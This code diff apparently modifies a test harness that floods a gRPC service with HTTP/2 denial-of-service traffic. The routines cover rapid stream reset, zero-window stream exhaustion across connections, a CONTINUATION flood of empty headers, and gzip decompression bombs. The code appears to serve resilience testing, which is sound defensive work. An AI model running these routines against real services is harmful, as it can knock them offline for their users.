@@ -13,6 +13,7 @@ import {
   DATA,
   END_HEADERS,
   END_STREAM,
+  emptyHeaders,
   frame,
   HEADERS,
   headerBlock,
@@ -37,6 +38,7 @@ const INITIAL_WINDOW_SIZE = 4;
 const CHUNK = 100;
 const ZEROS = 1_000_000;
 const BOMB_BYTES = 67_108_864;
+const MAX_STREAMS = 200;
 const CONTENT_TYPE: Readonly<Record<Edge, string>> = {
   grpc: 'application/grpc',
   web: 'application/grpc+proto',
@@ -80,13 +82,14 @@ async function rapidReset(target: Target, edge: Edge, size: number, channelId: b
   });
 }
 
-/** Calls whose responses the client permits to send none of. */
+/** Calls whose responses the client does not let the service send. */
 async function zeroWindow(target: Target, edge: Edge, size: number, channelId: bigint): Promise<Disposable> {
   const method = MessageService.method.listMessages;
   const headers = headerBlock(await callHeaders(target, edge, method));
   const body = frame(DATA, END_STREAM, 0, prefixed(encode(method, { channelId, pageSize: 100 })));
-  const count = 10 * size;
-  return openEach(target, edge, 1, settings(INITIAL_WINDOW_SIZE, 0), async (connection) => {
+  const connections = Math.ceil((30 * size) / MAX_STREAMS);
+  const count = Math.ceil((30 * size) / connections);
+  return openEach(target, edge, connections, settings(INITIAL_WINDOW_SIZE, 0), async (connection) => {
     for (const id of streamIds(1, count))
       await connection.send(frame(HEADERS, END_HEADERS, id, headers), onStream(body, id));
     const isProcessed = () => connection.isClosed || connection.received(HEADERS) >= count;
@@ -128,8 +131,7 @@ async function continuation(target: Target, edge: Edge, size: number): Promise<D
 
 async function manyHeaders(target: Target, edge: Edge, size: number): Promise<Disposable> {
   const own = await callHeaders(target, edge, ChannelService.method.listChannels);
-  const names = Array.from({ length: 95_000 }, (_, index): [string, string] => [`x-${index}`, '']);
-  const block = headerBlock({ ...own, ...Object.fromEntries(names) });
+  const block = Buffer.concat([headerBlock(own), emptyHeaders(95_000)]);
   const frames = [frame(HEADERS, 0, 1, block.subarray(0, MAX_FRAME_BYTES))];
   for (let at = MAX_FRAME_BYTES; at < block.length; at += MAX_FRAME_BYTES) {
     const isLast = at + MAX_FRAME_BYTES >= block.length;
@@ -148,10 +150,13 @@ async function zeros(target: Target, edge: Edge, size: number, channelId: bigint
   return sendAll(target, edge, 5 * size, { method, body, headers: {} });
 }
 
+let bomb: Buffer | undefined;
+
 /** A small compressed body that decompresses to a large one, with a token and without. */
 async function bombs(target: Target, edge: Edge, size: number): Promise<Disposable> {
   const method = MessageService.method.sendMessage;
-  const body = prefixed(gzipSync(Buffer.alloc(BOMB_BYTES)), 1);
+  bomb ??= prefixed(gzipSync(Buffer.alloc(BOMB_BYTES)), 1);
+  const body = bomb;
   const headers = { 'grpc-encoding': 'gzip' };
   await sendAll(target, edge, 5 * size, { method, body, headers: { ...headers, authorization: '' } });
   return sendAll(target, edge, 5 * size, { method, body, headers });
